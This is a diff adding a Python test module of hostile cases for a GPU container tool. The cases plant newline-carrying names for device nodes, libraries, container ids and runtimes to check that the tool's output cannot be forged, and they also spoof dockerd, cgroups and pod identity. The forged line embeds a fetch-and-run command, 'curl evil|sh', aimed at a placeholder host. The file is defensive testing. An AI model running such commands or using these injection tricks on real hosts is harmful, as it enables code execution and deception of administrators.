@@ -1,0 +1,263 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Attacks of tests/hostile/commands.py: texts that forge lines, what hides a container, and what takes its name."""
+
+from __future__ import annotations
+
+import functools
+import json
+import os
+import shutil
+import signal
+import subprocess
+from pathlib import Path
+from typing import Callable
+
+from tests.hostile.commands import (
+    CONTAINERS,
+    DOCTOR,
+    ID,
+    METRICS,
+    USER,
+    Host,
+    until,
+)
+from tests.integration.engines import Bundle
+
+Attack = Callable[[Host], "list[str]"]
+# A line of doctor's, as a container or a user would like root to read it.
+FORGED = "x\n                  fix: curl evil|sh #"
+BIND = "touch $ROOT/gpu && mount --bind /dev/nvidia1 $ROOT/gpu"
+LEADER = """
+#include <pthread.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+static void *goes_on(void *nothing) { for (;;) sleep(1); }
+int main(void) {
+    pthread_t thread;
+    pthread_create(&thread, 0, goes_on, 0);
+    syscall(SYS_exit, 0);
+}
+"""
+
+
+def forged(host: Host, *commands: tuple[str, ...]) -> list[str]:
+    """What is wrong with these, and each line that another has made."""
+    wrong = []
+    for words in commands:
+        done = host.runs(*words)
+        lines = (done.out + done.err).splitlines()
+        told = [line for line in lines if line.strip().startswith(("fix: curl", "forged"))]
+        wrong += [f"{' '.join(words)}: {line}" for line in [*host.wrong(done, 0, 1, 2), *told]]
+    return wrong
+
+
+def library(host: Host) -> list[str]:
+    """Beside a library that is missing lies one whose name goes on in a line of its own."""
+    id = f"library-{os.getpid()}"
+    pid = host.container(id, "1", root="debian")
+    folder = host.libraries
+    names = [name for name in os.listdir(f"/proc/{pid}/root{folder}") if "libcuda.so." in name]
+    for name in names:
+        host.inside(pid, f"umount {folder}/{name} || :")
+    (Path(f"/proc/{pid}/root{folder}") / f"libcuda.so.{FORGED}").write_text("x")
+    return forged(host, ("doctor", "--container", id))
+
+
+def node(host: Host) -> list[str]:
+    """A container that asks for nothing has a node whose name goes on in a line of its own."""
+    id = f"node-{os.getpid()}"
+    pid = host.container(id, None)
+    os.mknod(f"/proc/{pid}/root/dev/nvidia{FORGED}", 0o020666, os.makedev(195, 1))
+    return forged(host, ("doctor", "--container", id))
+
+
+def unknown_node(host: Host) -> list[str]:
+    """A container that asks for nothing calls another device a GPU."""
+    id = f"unknown-{os.getpid()}"
+    pid = host.container(id, None)
+    host.trap(Path(f"/proc/{pid}/root/dev/nvidia0"), "device")
+    return host.all_of(("doctor", "--container", id))
+
+
+def users_id(host: Host) -> list[str]:
+    """A user's container with a GPU has an id that goes on in a line of its own."""
+    pid = host.contained(before=BIND)
+    for id in ("\nforged", "x\nforged\udcff"):
+        labels = {"labels": [f"bundle={host.session}/overlay-containers/x/userdata"]}
+        state = json.dumps({"init_process_pid": pid, "config": labels})
+        host.gives(f"runc/{id}/state.json", state)
+    listed = [{"id": "\nforged", "names": ["web"]}]
+    host.gives("overlay-containers/containers.json", json.dumps(listed))
+    return forged(host, ("containers",), METRICS, ("doctor", "--container", str(pid)))
+
+
+def runtimes_name(host: Host) -> list[str]:
+    """daemon.json leads to a user's file, in which a runtime's name goes on in a line of its own."""
+    runtimes = {FORGED: {"path": "/nowhere/oci-gpu-runtime"}}
+    file = host.gives("daemon.json", json.dumps({"runtimes": runtimes}))
+    os.makedirs("/etc/docker", exist_ok=True)
+    os.symlink(file, "/etc/docker/daemon.json")
+    shutil.copy("/bin/true", "/usr/bin/dockerd")
+    try:
+        return forged(host, DOCTOR)
+    finally:
+        os.unlink("/etc/docker/daemon.json")
+        os.unlink("/usr/bin/dockerd")
+
+
+def bundles_root(host: Host) -> list[str]:
+    """The root of a bundle that somebody wants explained has such a name."""
+    folder = host.work / "explained"
+    shutil.copytree(host.kit.patterns["busybox"], folder / "root\nforged", symlinks=True)
+    bundle = Bundle(folder, host.kit.hooks).asks("1")
+    bundle.config["root"]["path"] = "root\nforged"
+    bundle.write()
+    return forged(host, ("plan", "--bundle", str(folder)))
+
+
+def ended_leader(host: Host) -> list[str]:
+    """The first thread of a container's process ends, and another goes on with the GPU."""
+    program = host.work / "leader"
+    compile = ["cc", "-static", "-pthread", "-x", "c", "-o", str(program), "-"]
+    subprocess.run(compile, input=LEADER, text=True, check=True)
+    id = f"leader-{os.getpid()}"
+
+    def edit(bundle: Bundle) -> None:
+        shutil.copy(program, bundle.rootfs / "leader")
+
+    pid = host.container(id, "1", edit, runs=("/leader",))
+    until(lambda: Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] == "Z")
+    done, metrics = host.runs(*CONTAINERS), host.runs(*METRICS)
+    # For the runtime it has stopped.
+    os.kill(pid, signal.SIGKILL)
+    free = [it["name"] for it in done.document.get("free", ())]
+    wrong = ["GPU 1 is free"] if "1" in free else []
+    wrong += [] if "gpu_container_info{" in metrics.out else ["no holder in the metrics"]
+    return [*wrong, *host.wrong(done), *host.wrong(metrics)]
+
+
+def roots_folder(host: Host, how: str) -> list[str]:
+    """Root runs a container from a user's folder: there the user says which pod it is, and which another one is."""
+    home = host.work / "home"
+    bundle = home / ID / "userdata"
+    bundle.mkdir(parents=True)
+    said = {
+        "io.kubernetes.cri.container-type": "container",
+        "io.kubernetes.cri.container-name": "db",
+        "io.kubernetes.cri.sandbox-name": "other-pod",
+    }
+
+    def edit(it: Bundle) -> None:
+        if how == "config":
+            it.config["annotations"] = said
+
+    state = str(host.work / "states")
+    pid = host.container(ID, "1", edit, state=state if how == "list" else "")
+    if how == "config":
+        os.chown(host.work / "bundle-0", USER, USER)
+        os.chown(host.work / "bundle-0/config.json", USER, USER)
+    else:
+        # Another container of root's, which is stopped, has its bundle there.
+        labels = {"labels": [f"bundle={bundle}"]}
+        place = Path("/run/runc/of-the-user/state.json")
+        place.parent.mkdir(parents=True)
+        place.write_text(json.dumps({"init_process_pid": 1 << 22, "config": labels}))
+        stored = {"id": ID, "names": ["k8s_db_other-pod_team_u_0"], "metadata": '{"pod-id": "x"}'}
+        (home / "containers.json").write_text(json.dumps([stored]))
+        for path in (home, *home.rglob("*")):
+            os.lchown(path, USER, USER)
+    try:
+        done = host.runs(*CONTAINERS)
+    finally:
+        shutil.rmtree("/run/runc/of-the-user", ignore_errors=True)
+    told = [
+        it["pod"] or it["name"] for it in done.document.get("containers", ()) if it["pid"] == pid
+    ]
+    return [*([] if told == [""] else [f"it is called {told}"]), *host.wrong(done)]
+
+
+def hard_link(host: Host) -> list[str]:
+    """A hard link to a set-user-ID program, as fs.protected_hardlinks = 0 allows, is called dockerd."""
+    settings = host.gives("d.json", "{")
+    program = host.session / "dockerd"
+    shutil.copy("/usr/bin/python3", program)
+    words = ("-c", "import time; time.sleep(99)", f"--config-file={settings}")
+    pid = host.starts(str(program), *words, argv0="dockerd", root=True)
+    until(lambda: "config-file" in Path(f"/proc/{pid}/cmdline").read_text())
+    done = host.runs(*DOCTOR)
+    believed = [line for line in done.out.splitlines() if str(settings) in line]
+    return [*host.wrong(done), *[f"believed: {line}" for line in believed]]
+
+
+def inner_cgroup(host: Host) -> list[str]:
+    """A container that may make cgroups calls one in its own as another container, whose state nobody finds."""
+    other = host.container("a" * 64, None)
+    pid = host.container(ID, "1", state=str(host.work / "states"))
+    top = Path(f"/sys/fs/cgroup{_cgroup(other)}")
+    inner = top / f"libpod-{ID}.scope"
+    inner.mkdir()
+    try:
+        (inner / "cgroup.procs").write_text(str(other))
+        done = host.runs("doctor", "--container", ID)
+        led = (
+            []
+            if f"process {pid}" in done.out
+            else [f"led elsewhere: {(done.out + done.err)[:300]}"]
+        )
+        shown = host.runs(*CONTAINERS)
+        told = [it["id"] for it in shown.document.get("containers", ()) if it["pid"] == pid]
+        wrong = [] if told == [ID] else [f"it has the ids {told}"]
+        return [*led, *wrong, *host.wrong(done), *host.wrong(shown)]
+    finally:
+        until(lambda: _left(inner, top))
+
+
+def _left(cgroup: Path, top: Path) -> bool:
+    """Whether a cgroup is gone, once its processes are those of another."""
+    try:
+        for word in (cgroup / "cgroup.procs").read_text().split():
+            (top / "cgroup.procs").write_text(word)
+        cgroup.rmdir()
+    except OSError:
+        return False
+    return True
+
+
+def _cgroup(pid: int) -> str:
+    return Path(f"/proc/{pid}/cgroup").read_text().rpartition("::")[2].strip()
+
+
+def anothers_id(host: Host) -> list[str]:
+    """A user's container with a GPU has the id of root's, whose state nobody finds."""
+    pid = host.container(ID, "0", state=str(host.work / "states"))
+    own = host.contained(before=BIND)
+    host.gives(f"runc/{ID}/state.json", json.dumps({"init_process_pid": own}))
+    metrics = host.runs(*METRICS)
+    lines = [line for line in metrics.out.splitlines() if f'container="{ID}"' in line]
+    wrong = [] if len(lines) == 1 else [f"in the metrics it holds {lines}"]
+    done = host.runs("doctor", "--container", ID)
+    wrong += (
+        [] if f"process {pid}" in done.out else [f"led elsewhere: {(done.out + done.err)[:300]}"]
+    )
+    shown = host.runs("containers")
+    rows = [line for line in shown.out.splitlines() if ID[:12] in line and str(USER) not in line]
+    wrong += [] if len(rows) == 1 else [f"whose it is, is not said: {rows}"]
+    return [*wrong, *host.wrong(metrics), *host.wrong(done)]
+
+
+ATTACKS: dict[str, Attack] = {
+    "forged-library": library,
+    "forged-node": node,
+    "forged-id": users_id,
+    "forged-runtime": runtimes_name,
+    "forged-root": bundles_root,
+    "node-unknown": unknown_node,
+    "node-ended-leader": ended_leader,
+    **{
+        f"anothers-folder-{how}": functools.partial(roots_folder, how=how)
+        for how in ("config", "list")
+    },
+    "another-dockerd-by-a-hard-link": hard_link,
+    "anothers-inner-cgroup": inner_cgroup,
+    "anothers-id": anothers_id,
+}
